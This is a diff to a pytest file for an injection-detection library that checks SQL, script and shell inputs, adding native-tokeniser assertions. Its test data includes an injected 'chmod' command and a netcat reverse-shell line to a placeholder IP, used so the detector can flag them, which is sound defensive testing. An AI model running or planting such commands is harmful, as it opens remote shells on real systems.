@@ -1,12 +1,18 @@
-"""The tokenisers: SQL (libinjection's method), HTML and JavaScript, and the shell grammar."""
+"""The tokenisers: SQL (libinjection's method), HTML and JavaScript, and the shell grammar.
+
+Each case is read by the native tokenisers and by the Python oracle.
+"""
 
 from __future__ import annotations
 
 import pytest
 
-from stockade.detection.shell import is_shell, is_shell_strict
-from stockade.detection.sqli import fingerprint, is_sqli, sqli_context, tokens
-from stockade.detection.xss import is_xss, script_context
+from stockade._native import DetectionTokenisers
+from stockade.oracle.detection.shell import is_shell, is_shell_strict
+from stockade.oracle.detection.sqli import fingerprint, is_sqli, sqli_context, tokens
+from stockade.oracle.detection.xss import is_xss, script_context
+
+NATIVE = DetectionTokenisers()
 
 ORDINARY_TEXT = [
     "rock and roll",
@@ -51,6 +57,7 @@ ORDINARY_TEXT = [
 @pytest.mark.parametrize("text", ORDINARY_TEXT)
 def test_ordinary_text_is_no_sql(text: str) -> None:
     assert not is_sqli(text), fingerprint(tokens(text))
+    assert not NATIVE.is_sqli(text)
 
 
 @pytest.mark.parametrize(
@@ -83,6 +90,7 @@ def test_ordinary_text_is_no_sql(text: str) -> None:
 )
 def test_injections_read_as_sql(payload: str) -> None:
     assert is_sqli(payload), [fingerprint(tokens(payload, q)) for q in ("", "'", '"')]
+    assert NATIVE.is_sqli(payload)
 
 
 def test_the_context_an_injection_needs_is_named() -> None:
@@ -120,7 +128,9 @@ def test_tokens_fold_unary_signs_arithmetic_and_lists() -> None:
 )
 def test_ordinary_markup_and_text_is_no_script(text: str) -> None:
     assert not is_xss(text)
+    assert not NATIVE.is_xss(text)
     assert not script_context(text)
+    assert not NATIVE.script_context(text)
 
 
 @pytest.mark.parametrize(
@@ -152,6 +162,7 @@ def test_ordinary_markup_and_text_is_no_script(text: str) -> None:
 )
 def test_markup_that_runs_script_is_recognised(payload: str) -> None:
     assert is_xss(payload)
+    assert NATIVE.is_xss(payload)
 
 
 @pytest.mark.parametrize(
@@ -169,6 +180,7 @@ def test_markup_that_runs_script_is_recognised(payload: str) -> None:
 )
 def test_javascript_breakouts_are_recognised(payload: str) -> None:
     assert script_context(payload)
+    assert NATIVE.script_context(payload)
 
 
 @pytest.mark.parametrize(
@@ -199,6 +211,7 @@ def test_javascript_breakouts_are_recognised(payload: str) -> None:
 )
 def test_ordinary_text_is_no_command(text: str) -> None:
     assert not is_shell(text)
+    assert not NATIVE.is_shell(text)
 
 
 @pytest.mark.parametrize(
@@ -229,13 +242,17 @@ def test_ordinary_text_is_no_command(text: str) -> None:
 )
 def test_commands_are_recognised(payload: str) -> None:
     assert is_shell(payload)
+    assert NATIVE.is_shell(payload)
 
 
 def test_headers_need_more_than_a_semicolon() -> None:
     user_agent = "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10"
     assert not is_shell_strict(user_agent)
+    assert not NATIVE.is_shell_strict(user_agent)
     assert not is_shell_strict(
         "LiveJournal.com (webmaster@livejournal.com; for http://www.livejournal.com/; 1 readers)"
     )
     assert is_shell_strict(";chmod +x /tmp/x")
+    assert NATIVE.is_shell_strict(";chmod +x /tmp/x")
     assert is_shell_strict("x | nc -e /bin/sh 203.0.113.7 4444")
+    assert NATIVE.is_shell_strict("x | nc -e /bin/sh 203.0.113.7 4444")
